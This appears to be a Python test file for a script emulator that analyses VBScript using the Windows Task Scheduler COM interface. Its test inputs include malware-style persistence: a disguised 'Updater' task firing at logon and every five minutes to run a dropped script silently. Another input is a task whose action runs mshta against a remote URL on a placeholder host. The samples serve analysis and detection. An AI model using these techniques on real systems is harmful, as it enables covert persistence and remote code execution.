from evaluate.com.program import run


def test_task():
    outcome = run(
        """
        Set s = CreateObject("Schedule.Service"): s.Connect
        Set d = s.NewTask(0)
        d.RegistrationInfo.Description = "Update": d.Settings.Enabled = True: d.Settings.IdleSettings.StopOnIdleEnd = False
        d.Principal.LogonType = 3
        Set t = d.Triggers.Create(1): t.StartBoundary = "2021-01-20T12:00:00": t.Repetition.Interval = "PT5M"
        d.Triggers.Create 9
        Set a = d.Actions.Create(0): a.Path = "C:\\Windows\\System32\\wscript.exe": a.Arguments = "//b C:\\Users\\Public\\a.vbs"
        Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\Users\\Public\\a.vbs"): f.Write "Beep"
        s.GetFolder("\\").RegisterTaskDefinition "Updater", d, 6, , , 3
        Main = d.Actions(1).Path
        """
    )
    command = r"C:\Windows\System32\wscript.exe //b C:\Users\Public\a.vbs"
    assert outcome.value == r"C:\Windows\System32\wscript.exe"
    assert outcome.effects("schedule") == ["Updater"]
    assert outcome.fact("effect.schedule").detail["command"] == command
    assert outcome.fact("effect.schedule").detail["trigger"] == "time, logon"
    assert outcome.texts() == [command, "Beep"]


def test_task_in_xml():
    xml = "<Task><Actions><Exec><Command>mshta</Command><Arguments>http://files.example.test/a</Arguments></Exec></Actions></Task>"
    outcome = run(f'CreateObject("Schedule.Service").GetFolder("\\").RegisterTask "T", "{xml}", 6, "", "", 3')
    assert outcome.texts("script.cmd") == ["mshta http://files.example.test/a"]


def test_task_that_is_run_at_once():
    outcome = run(
        """
        Set s = CreateObject("Schedule.Service"): Set d = s.NewTask(0)
        d.Actions.Create(0).Path = "calc.exe"
        Set t = s.GetFolder("\\").RegisterTaskDefinition("T", d, 6, Null, Null, 3)
        t.Run Null
        s.GetFolder("\\").DeleteTask "T", 0
        """
    )
    assert outcome.effects() == [("schedule", "T"), ("run", "calc.exe"), ("delete", "T")]
